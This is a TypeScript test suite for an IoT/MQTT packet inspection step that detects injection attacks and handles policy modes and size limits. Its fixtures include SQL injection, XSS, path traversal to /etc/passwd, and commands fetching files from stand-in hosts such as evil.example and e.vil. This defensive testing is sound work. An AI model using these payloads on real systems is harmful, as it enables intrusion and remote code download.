import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { PacketEvent } from '../model.js';
import { DEFAULT_POLICY, policyFromText } from '../policy/policy.js';
import { packetEvent, telemetry } from '../test-events.js';
import { createPatternsStep } from './patterns.js';

const ctx = {
  packetRef: { topic: 't', partition: 0, offset: '0' },
  now: () => 0,
  findings: [],
  emitVerdict: () => {},
  emitApproved: () => {},
};
const noState = { device: undefined, source: undefined };
const inspect = (event: PacketEvent, policy = DEFAULT_POLICY) =>
  createPatternsStep({ policy }).process(event, noState, ctx);

const detections: Array<[string, PacketEvent, string, string]> = [
  ['SQL injection in a JSON value', telemetry({ name: "x' OR 1=1--" }), 'sqli', 'payload.json:$.name'],
  [
    'SQL injection in a JSON key',
    telemetry({ '1 union select 1,2--': 1 }),
    'sqli',
    'payload.json:$["1 union select 1,2--"]#key',
  ],
  [
    'XSS behind HTML entities',
    telemetry({ label: '&lt;script&gt;alert(1)&lt;/script&gt;' }),
    'xss',
    'payload.json:$.label',
  ],
  [
    'XSS behind \\u escapes in the text',
    telemetry({ label: '\\u003cimg src=x onerror=alert(1)\\u003e' }),
    'xss',
    'payload.json:$.label',
  ],
  [
    'command injection in a nested array',
    telemetry({ a: { b: ['ok', '; cat /etc/passwd'] } }),
    'command-injection',
    'payload.json:$.a.b[1]',
  ],
  [
    'double-URL-encoded traversal in a text payload',
    packetEvent({
      topic: 'devices/d1/status',
      payload: Buffer.from('file=..%252f..%252f..%252fetc%252fpasswd'),
    }),
    'path-traversal',
    'payload.text',
  ],
  [
    'SQL injection in a query string value, read in its own (numeric) context',
    packetEvent({
      topic: 'devices/d1/status',
      payload: Buffer.from('GET /q?a=1&id=12 or length(pw)>2&fmt=csv'),
    }),
    'sqli',
    'payload.query:id',
  ],
  [
    'SQL injection in a form body value',
    packetEvent({
      topic: 'devices/d1/status',
      payload: Buffer.from('ts=1773651001&owner=1407+or+9+is+not+null+%23&device=ho-2326'),
    }),
    'sqli',
    'payload.query:owner',
  ],
  [
    'SQL injection in a form value ended by a statement break',
    packetEvent({
      topic: 'devices/d1/status',
      payload: Buffer.from('device_id=123  order  by 13  asc;--&ts=1'),
    }),
    'sqli',
    'payload.query:device_id',
  ],
  [
    'SQL injection in a parameter before a later ?',
    packetEvent({ topic: 'devices/d1/status', payload: Buffer.from('id=12 or length(pw)>2&x=?') }),
    'sqli',
    'payload.query:id',
  ],
  [
    'SQL injection in a CONNECT username',
    packetEvent({ packetType: 'CONNECT', username: "admin'--", topic: null, payload: null }),
    'sqli',
    'username',
  ],
  [
    'traversal in a SUBSCRIBE filter',
    packetEvent({
      packetType: 'SUBSCRIBE',
      topic: null,
      payload: null,
      subscriptions: [{ topic: 'devices/../../etc/passwd', qos: 0 }],
    }),
    'path-traversal',
    'subscriptions[0].topic',
  ],
  [
    'a command line in a field named for one',
    telemetry({ id: 'gw-1', run: 'uname -a' }),
    'command-injection',
    'payload.json:$.run',
  ],
  [
    "SQL injection at the start of a text line's value",
    packetEvent({
      topic: 'devices/d1/status',
      payload: Buffer.from("sort: basement' GROUP BY username-- -\nseq: 2824"),
    }),
    'sqli',
    'payload.line:sort',
  ],
  [
    'a command in a console-style SET line',
    packetEvent({
      topic: 'devices/d1/status',
      payload: Buffer.from('SET shell curl -o /tmp/a http://evil.example/a'),
    }),
    'command-injection',
    'payload.line:shell',
  ],
];

for (const [name, event, expectedClass, location] of detections) {
  test(`patterns: detects ${name}`, () => {
    const findings = inspect(event);
    const hit = findings.find((f) => f.class === expectedClass);
    assert.ok(hit, `no ${expectedClass} finding in ${JSON.stringify(findings)}`);
    assert.equal(hit.location, location);
    assert.equal(hit.stage, 'patterns');
    assert.ok(hit.evidence.length > 0 && hit.evidence.length <= 120);
  });
}

const benign = [
  { fw: 'v2.3.1-rc2+build.445', port: '/dev/ttyUSB0', url: 'https://api.example.com/v1/x?a=1&b=2' },
  { note: "Operator's note: select the mode from the menu, or don't" },
  { image: Buffer.alloc(300, 7).toString('base64'), path: 'C:\\ProgramData\\Agent\\config.ini' },
  { rule: 'temp > 30 or humidity < 20', cron: '*/5 * * * *', expr: 'a < b && c > d' },
];

for (const value of benign) {
  test(`patterns: no finding on telemetry ${JSON.stringify(value).slice(0, 60)}`, () => {
    assert.deepEqual(inspect(telemetry(value)), []);
  });
}

for (const text of [
  'hour=22 and door=open',
  'range=20 or 30&unit=s&mode=auto',
  'GET /status?order=by date&group=by zone',
  'note=select the mode from the menu&lang=en',
  'status: ok\nuptime: 3 days\nnext: reboot at 02:00',
  'mode: auto\nrule: hour=22 and door=open',
]) {
  test(`patterns: no finding on a text payload ${JSON.stringify(text)}`, () => {
    assert.deepEqual(inspect(packetEvent({ topic: 'devices/d1/status', payload: Buffer.from(text) })), []);
  });
}

test('more query parameters than the node cap are reported, not split', () => {
  const many = Array.from({ length: DEFAULT_POLICY.patterns.maxJsonNodes + 1 }, (_, i) => `k${i}=1`).join(
    '&',
  );
  const findings = inspect(packetEvent({ topic: 'devices/d1/status', payload: Buffer.from(many) }));
  assert.deepEqual(
    findings.map((f) => f.ruleId),
    ['PAT-INSPECTION-LIMIT'],
  );
});

test('a single weak signal stays below the score threshold (one ../ is not an attack)', () => {
  assert.deepEqual(inspect(telemetry({ dir: '../lib' })), []);
});

test('a shadow rule is recorded but marked shadow; global shadow mode marks every finding', () => {
  const perRule = policyFromText('{"rules":{"XSS-941110":{"shadow":true}}}', 'x');
  const findings = inspect(telemetry({ a: '<script>x</script>' }), perRule);
  assert.ok(findings.length > 0);
  assert.ok(
    findings.every((f) => f.shadow),
    'only shadow rules matched, so nothing decides',
  );
  const global = policyFromText('{"mode":"shadow"}', 'x');
  assert.ok(inspect(telemetry({ a: "' or 1=1--" }), global).every((f) => f.shadow));
});

test('patterns.action holds injections for review instead of blocking them; a rule override still wins', () => {
  const held = policyFromText('{"patterns":{"action":"quarantine"}}', 'x');
  const findings = inspect(telemetry({ a: "' or 1=1--" }), held);
  assert.ok(findings.length > 0);
  assert.ok(findings.every((f) => f.action === 'quarantine'));
  assert.ok(
    inspect(telemetry({ a: "' or 1=1--" })).every((f) => f.action === 'block'),
    'the default blocks',
  );
  const ruleId = findings[0]?.ruleId as string;
  const mixed = policyFromText(
    `{"patterns":{"action":"quarantine"},"rules":{"${ruleId}":{"action":"block"}}}`,
    'x',
  );
  assert.equal(
    inspect(telemetry({ a: "' or 1=1--" }), mixed).find((f) => f.ruleId === ruleId)?.action,
    'block',
  );
  assert.throws(
    () => policyFromText('{"patterns":{"action":"allow"}}', 'x'),
    /patterns\.action must be one of/,
  );
});

test('a disabled rule does not run', () => {
  const policy = policyFromText(
    '{"rules":{"XSS-941110":{"enabled":false},"XSS-941220":{"enabled":false}}}',
    'x',
  );
  assert.deepEqual(inspect(telemetry({ a: '<script>x</script>' }), policy), []);
});

test('JSON deeper than the cap is reported, not walked', () => {
  let nested: unknown = 'leaf';
  for (let i = 0; i < 40; i += 1) nested = [nested];
  const findings = inspect(telemetry(nested));
  assert.deepEqual(
    findings.map((f) => f.ruleId),
    ['PAT-INSPECTION-LIMIT'],
  );
});

test('an attack after long padding in one field is still found (fields are read in chunks)', () => {
  const findings = inspect(telemetry({ note: `${'a'.repeat(20_000)} <script>alert(1)</script>` }));
  assert.ok(findings.some((f) => f.class === 'xss'));
});

test('a text longer than the message budget is read up to it and the rest reported, not dropped', () => {
  const padded = `${'temp ok '.repeat(DEFAULT_POLICY.patterns.maxMessageChars / 8 + 10)}x' or 1=1--`;
  const findings = inspect(packetEvent({ topic: 'devices/d1/status', payload: Buffer.from(padded) }));
  const limit = findings.find((f) => f.ruleId === 'PAT-INSPECTION-LIMIT');
  assert.ok(limit, `no PAT-INSPECTION-LIMIT in ${JSON.stringify(findings)}`);
  assert.match(limit.evidence, /characters to inspect/);
});

const status = (text: string) => packetEvent({ topic: 'devices/d1/status', payload: Buffer.from(text) });
const classes = (findings: ReturnType<typeof inspect>) => new Set(findings.map((f) => f.class));

test('a form-encoded injection is read with its + as spaces, quotes or not', () => {
  assert.ok(classes(inspect(status("user=admin'+or+'1'='1'--"))).has('sqli'));
  assert.ok(classes(inspect(telemetry({ user: "admin'+or+'1'='1" }))).has('sqli'));
});

test('a line value is read in its own context whatever follows a shell comment or a CRLF', () => {
  for (const text of [
    'mode: auto\ncmd: uname -a # x=1',
    'mode: auto\nexec: wget http://e.vil/x -O /tmp/x # a=1',
    'mode: auto\r\nexec: wget http://e.vil/x -O /tmp/x\r\n',
    'mode: auto\ncmd: uname -a; a=b',
  ])
    assert.ok(classes(inspect(status(text))).has('command-injection'), JSON.stringify(text));
});

test('re-reading the lines of a text that was read whole reports no inspection limit', () => {
  const lines = Array.from({ length: 1000 }, (_, i) => `sensor${i}=ok state`).join('\n');
  // A long line after many short ones: its re-reading counts as one part, whatever its length.
  const longLine = `${Array.from({ length: 600 }, (_, i) => `k${i}=ok`).join('\n')}\nnote=${'quiet '.repeat(1300)}`;
  for (const text of [lines, 'x\n'.repeat(5001), longLine]) {
    const limit = inspect(status(text)).find((f) => f.ruleId === 'PAT-INSPECTION-LIMIT');
    assert.equal(limit, undefined, limit?.evidence);
  }
});

test('decoding that lengthens a field past the cap reports what it cut off', () => {
  // U+FDFA becomes 18 characters under NFKC: 460 of them push the script past 8192.
  const findings = inspect(telemetry({ u: `${'\ufdfa'.repeat(460)} <script>alert(1)</script>` }));
  const limit = findings.find((f) => f.ruleId === 'PAT-INSPECTION-LIMIT');
  assert.ok(limit, JSON.stringify(findings));
  assert.match(limit.evidence, /decoding lengthened payload\.json:\$\.u past 8192/);
});

test('a UTF-8 byte order mark before JSON is not content', () => {
  const bom = Buffer.from([0xef, 0xbb, 0xbf]);
  const payload = Buffer.concat([bom, Buffer.from('{"note":"<script>alert(1)</script>"}')]);
  const findings = inspect(packetEvent({ payload }));
  assert.ok(findings.some((f) => f.class === 'xss' && f.location === 'payload.json:$.note'));
});
